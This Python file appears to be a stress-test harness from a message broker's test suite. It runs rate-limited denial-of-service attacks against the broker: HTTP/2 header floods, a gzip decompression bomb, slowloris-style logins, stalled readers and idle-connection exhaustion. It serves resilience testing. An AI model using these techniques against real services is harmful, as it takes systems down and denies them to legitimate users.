"""Attacks that are to use up a broker: `python -m tests.attack.exhausting KIND ENDPOINT SOURCE SECONDS USER SECRET`.

Each is held to the pace at which it once ended a broker in 1 GiB, or kept others out, so that the machine is left to
the broker and to the honest client beside it. `USER` is one that the broker knows; what it may do, the kind says.
"""

from __future__ import annotations

import gzip
import os
import resource
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count
from typing import Final

from quarry_mq.protocol.h2.frames import Flag, FrameType, frame
from quarry_mq.protocol.h2.header_blocks import encode_fields
from tests.attack.wire import PREFIX, STREAM_OF, TABLE_SIZE_0, WIDE_GREETING, Headers, block, call, signed
from tests.hostile.test_requests import good_request

NICE: Final = 10
READ_SIZE: Final = 256 * 1024
CALLS_PER_CONNECTION: Final = 9_000
STOPPED: Final = 200
"""Connections that stop reading."""

SLOW_LOGINS: Final = 256
"""Four times as many as the console has connections."""
WRONG_LOGIN_EACH: Final = 10
LOGIN_HEAD: Final = (
    b"POST /api/session HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
)

ADMIN_CONNECTIONS: Final = 100
EMPTY_ENTRIES: Final = 8_400_000
LARGE_TOPIC: Final = "acme-large"
TICK_S: Final = 0.005

Steps = Iterator[None]
"""One step of an attack each."""


def connected(endpoint: str, source: str, first: bytes, *, receive_buffer: int | None = None) -> socket.socket:
    host, _, port = endpoint.rpartition(":")
    made = socket.socket()
    if receive_buffer is not None:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    made.settimeout(2.0)
    made.bind((source, 0))
    made.connect((host, int(port)))
    made.sendall(first)
    return made


def drain(each: socket.socket) -> bool:
    """Throw away what has come; whether the connection is still open."""
    each.setblocking(False)
    try:
        while piece := each.recv(READ_SIZE):
            if len(piece) < READ_SIZE:
                return True
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        each.settimeout(2.0)


def streams_of_strangers(endpoint: str, source: str, _user: str, _secret: str) -> Steps:
    """A telemetry stream without credentials on each of many connections, and as much behind it as one read holds."""
    head = frame(FrameType.HEADERS, Flag.END_HEADERS, 1, TABLE_SIZE_0 + block("Telemetry", (b"x-more", b"m" * 12_000)))
    piece = frame(FrameType.DATA, 0, 1, bytes(16_000))
    said = WIDE_GREETING + head + frame(FrameType.DATA, 0, 1, PREFIX.pack(0, 1 << 20)) + piece * 15
    while True:
        with suppress(OSError):
            connected(endpoint, source, said).close()
        yield


def headers_only(endpoint: str, source: str, _user: str, _secret: str) -> Steps:
    """Sends of which nothing comes but headers, as large as they may be."""
    long = block("SendMessage", (b"authorization", b"a" * 15_000))
    kept: list[socket.socket] = []
    while True:
        with suppress(OSError):
            kept.append(connected(endpoint, source, WIDE_GREETING))
            for number in range(CALLS_PER_CONNECTION):
                whole = TABLE_SIZE_0 + long if number == 0 else long
                kept[-1].sendall(frame(FrameType.HEADERS, Flag.END_HEADERS, STREAM_OF[number], whole))
                if not drain(kept[-1]):
                    break
                yield
        yield


def packed_by(who: Headers, plain: bytes) -> Callable[[int], bytes]:
    """The calls of a connection, each with the same packed request, of several methods in turns."""
    packed = gzip.compress(plain)
    heads = [block(method, *who, (b"grpc-encoding", b"gzip")) for method in ("SendMessage", "AckMessage", "Heartbeat")]

    def made(number: int) -> bytes:
        whole = call(number, heads[number % len(heads)], packed)
        at = whole.index(PREFIX.pack(0, len(packed)))
        return whole[:at] + b"\1" + whole[at + 1 :]

    return made


def _packed(endpoint: str, source: str, who: Headers, plain: bytes) -> Steps:
    made = packed_by(who, plain)
    while True:
        with suppress(OSError), connected(endpoint, source, WIDE_GREETING) as attacker:
            for number in range(CALLS_PER_CONNECTION):
                attacker.sendall(made(number))
                if not drain(attacker):
                    break
                yield
        yield


def packed_entries(endpoint: str, source: str, user: str, secret: str) -> Steps:
    """8.4 million empty entries in 16 KB, from a user without any right."""
    return _packed(endpoint, source, signed(user, secret), b"\x0a\x00" * EMPTY_ENTRIES)


def small_packed_entries(endpoint: str, source: str, user: str, secret: str) -> Steps:
    """As many as any request may become, in a hundred bytes."""
    return _packed(endpoint, source, signed(user, secret), b"\x0a\x00" * 32_000)


def readers_that_stop(endpoint: str, source: str, user: str, secret: str) -> Steps:
    """Receives of large messages by a user that may have them, and that does not read."""
    request = good_request("ReceiveMessage")
    request.message_queue.topic.name = LARGE_TOPIC
    request.message_queue.id = -1
    request.batch_size = 2
    kept: dict[int, socket.socket] = {}
    for number in count():
        slot = number % STOPPED
        old = kept.pop(slot, None)
        if old is not None:
            old.close()
        request.group.name = f"billing-{number}"
        head = block("ReceiveMessage", *signed(user, secret), client_id=b"stopped-%d" % number)
        body = request.SerializeToString()
        said = WIDE_GREETING + call(0, head, body)
        with suppress(OSError):
            kept[slot] = connected(endpoint, source, said, receive_buffer=4_096)
        for _ in range(1 if number < STOPPED else 7):  # then only some come back that had to go
            yield


def slow_logins(endpoint: str, source: str, user: str, _secret: str) -> Steps:
    """Logins at the console whose bodies hardly come, and between them whole ones of a user with a wrong secret."""
    wrong = b'{"user": "%s", "secret": "%s"}' % (user.encode(), b"not-the-secret-of-anybody")
    kept: list[socket.socket] = []
    for number in count():
        if number % WRONG_LOGIN_EACH:
            said = LOGIN_HEAD % (len(wrong) + SLOW_LOGINS) + b"{"
        else:
            said = LOGIN_HEAD % len(wrong) + wrong
        with suppress(OSError):
            kept.append(connected(endpoint, source, said))
        if len(kept) > SLOW_LOGINS:
            kept.pop(0).close()
        if number % SLOW_LOGINS == 0:
            kept = [each for each in kept if drain(each) and went_on(each)]
        yield


def went_on(each: socket.socket) -> bool:
    """Send one more byte; whether that was possible."""
    with suppress(OSError):
        each.sendall(b" ")
        return True
    return False


def idle_connections(endpoint: str, source: str, _user: str, _secret: str) -> Steps:
    """Connections that say what a client says first, and nothing more."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    kept: list[socket.socket] = []
    for number in count():
        with suppress(OSError):
            kept.append(connected(endpoint, source, WIDE_GREETING))
        if number % 100 == 99:
            kept = [each for each in kept if drain(each)]
        yield


def calls_of_the_admin_port(endpoint: str, source: str, _user: str, _secret: str) -> Steps:
    """As many as may be open at once on each connection: some watch the health for ever, some have no request."""
    watch, other = (
        head_of(path) for path in ("/grpc.health.v1.Health/Watch", "/quarry.admin.v1.AdminService/GetBroker")
    )
    said = WIDE_GREETING + b"".join(
        call(number, watch, b"")
        if number % 2
        else frame(FrameType.HEADERS, Flag.END_HEADERS, STREAM_OF[number], (b"" if number else TABLE_SIZE_0) + other)
        for number in range(256)
    )
    kept: list[socket.socket] = []
    while True:
        with suppress(OSError):
            kept.append(connected(endpoint, source, said))
        if len(kept) > ADMIN_CONNECTIONS:
            kept.pop(0).close()
        for each in kept:
            drain(each)
        yield


def head_of(path: str) -> bytes:
    """The header block of a call of any service."""
    return encode_fields(
        [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path.encode()),
            (b":authority", b"broker"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        ]
    )


KINDS: Final[dict[str, tuple[float, Callable[[str, str, str, str], Steps]]]] = {
    "streams of strangers": (430.0, streams_of_strangers),
    "headers only": (700.0, headers_only),
    "packed entries": (3.5, packed_entries),
    "small packed entries": (120.0, small_packed_entries),
    "readers that stop": (20.0, readers_that_stop),
    "slow console logins": (100.0, slow_logins),
    "idle connections": (400.0, idle_connections),
    "calls of the admin port": (5.0, calls_of_the_admin_port),
}
"""How many steps each takes per second, and what they are."""


def attack(kind: str, endpoint: str, source: str, seconds: float, user: str, secret: str) -> int:
    """Returns how many steps were taken."""
    per_second, make = KINDS[kind]
    steps = make(endpoint, source, user, secret)
    began_s, taken = time.monotonic(), 0
    while (passed_s := time.monotonic() - began_s) < seconds:
        if taken < passed_s * per_second:
            next(steps)
            taken += 1
        else:
            time.sleep(TICK_S)
    return taken


def main() -> None:
    kind, endpoint, source, seconds, user, secret = sys.argv[1:]
    os.nice(NICE)
    print("ready", flush=True)
    print(attack(kind, endpoint, source, float(seconds), user, secret), flush=True)


if __name__ == "__main__":
    main()
